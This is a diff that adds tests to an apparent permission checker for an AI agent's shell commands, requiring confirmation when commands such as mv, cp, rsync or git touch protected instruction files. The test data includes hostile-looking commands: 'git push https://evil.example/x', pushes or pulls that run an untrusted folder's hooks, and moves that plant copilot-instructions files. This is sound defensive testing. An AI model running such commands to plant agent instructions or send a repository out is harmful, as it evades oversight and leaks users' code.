@@ -159,6 +159,86 @@ describe('a family of commands', () => {
   });
 });
 
+describe('a command that does more than its rule says', () => {
+  const place = new MemoryFiles({
+    files: {
+      '/w/app/README.md': 'hi',
+      '/w/app/src/a.ts': 'x',
+      '/w/app/deep/one/two/.npmrc': 'x',
+      '/w/app/gh/prompts/evil.md': 'x',
+      '/w/app/tmp/copilot-instructions.md': 'x',
+    },
+  });
+  const verdictOf = async (command: string, rule: string): Promise<string> => {
+    const effects = await resolveEffects([{ kind: 'command', command }], {
+      roots: place.roots(),
+      probe: place,
+      analyze: analyzers.bash,
+    });
+    return decide(effects, [family('allow', rule)], 'ask').verdict;
+  };
+
+  it.each([
+    ['mv', 'mv deep lib', 'a protected file lies deep in the folder'],
+    ['mv', 'mv deep/one lib', 'the same, nearer'],
+    ['git mv', 'git mv deep lib', 'the same, by git'],
+    ['git', 'git restore --source=x deep', 'the same, overwritten'],
+    ['git', 'git restore .', 'all of the folder is overwritten'],
+    ['git', 'git checkout HEAD deep', 'the same, by the older name'],
+    ['mv', 'mv gh .github', 'what lies in it gets a protected name'],
+    ['git', 'git mv gh .github', 'the same, by git'],
+    ['mv', 'mv tmp/copilot-instructions.md .github', 'a file gets a protected name'],
+    ['mv', 'mv -t .github tmp/copilot-instructions.md', 'the folder stands first'],
+    ['mv', 'mv --target-directory=.github tmp/copilot-instructions.md', 'the folder is a value'],
+    ['cp', 'cp tmp/copilot-instructions.md .github', 'a copy gets a protected name'],
+    ['cp', 'cp -t.github tmp/copilot-instructions.md', 'the folder is attached'],
+    ['install', 'install tmp/copilot-instructions.md .github/', 'the same'],
+    ['ln', 'ln tmp/copilot-instructions.md .github', 'a link gets a protected name'],
+    ['ln', 'ln -s tmp .github', 'a folder gets the name of one that holds protected files'],
+    ['git clone', 'git clone https://example.com/x .github', 'a whole tree gets that name'],
+    ['rsync', 'rsync -a src/ .', 'a whole tree is copied over another'],
+    ['rsync', 'rsync -rl src/ lib', 'the same'],
+    ['rsync', 'rsync --delete-missing-args a b', 'deletes'],
+    ['rsync', 'rsync --remote-option=--log-file=x a b', 'writes a file'],
+    ['rsync', 'rsync tmp/copilot-instructions.md .github/', 'a copy gets a protected name'],
+    ['zip', 'zip -r x.zip .', 'packs what nobody named'],
+    ['patch', 'patch -p1 -i x.patch', 'the patch names the files'],
+    ['patch', 'patch README.md x.patch', 'the same'],
+    ['python3', 'python3 -m zipfile -e x.zip .', 'unpacks'],
+    ['python3 -m tarfile', 'python3 -m tarfile -e x.tar .', 'the same'],
+    ['python3 -m cProfile', 'python3 -m cProfile x.py', 'runs what it is given'],
+    ['jar', 'jar xf x.jar', 'unpacks'],
+    ['git push', 'git push ./evil', 'runs the hooks of a folder that is a repository'],
+    ['git push', 'git push evil main', 'the same, without a sign that it is a folder'],
+    ['git push', 'git push https://evil.example/x', 'sends the history to anybody'],
+    ['git pull', 'git pull -q ./evil', 'brings in what a folder says'],
+    ['git', 'git update-ref refs/heads/main abc', 'changes the history by itself'],
+    ['git', 'git commit-tree abc', 'the same'],
+    ['git', 'git symbolic-ref HEAD refs/heads/x', 'the same'],
+  ])('%s: asks for %s: %s', async (rule, command) => {
+    expect(await verdictOf(command, rule)).toBe('ask');
+  });
+
+  it.each([
+    ['mv', 'mv src/a.ts src/b.ts'],
+    ['mv', 'mv src lib'],
+    ['cp', 'cp src/a.ts lib'],
+    ['rsync', 'rsync -tv src/a.ts lib/'],
+    ['git push', 'git push'],
+    ['git push', 'git push -q origin main'],
+    ['git push fork', 'git push fork main'],
+    ['git fetch', 'git fetch upstream'],
+    ['git', 'git restore README.md'],
+    ['git', 'git checkout main'],
+    ['git', 'git symbolic-ref HEAD'],
+    ['git clone', 'git clone https://example.com/x lib'],
+    ['python3 -m pytest', 'python3 -m pytest src'],
+    ['zip', 'zip x.zip README.md'],
+  ])('%s: runs %s', async (rule, command) => {
+    expect(await verdictOf(command, rule)).toBe('allow');
+  });
+});
+
 describe('the analysis of a command', () => {
   it('hands on the words as the shell would, without their quotes', async () => {
     expect((await analyze(`'a'"b"c "d e" '' 2>/dev/null | f`)).plain).toEqual([
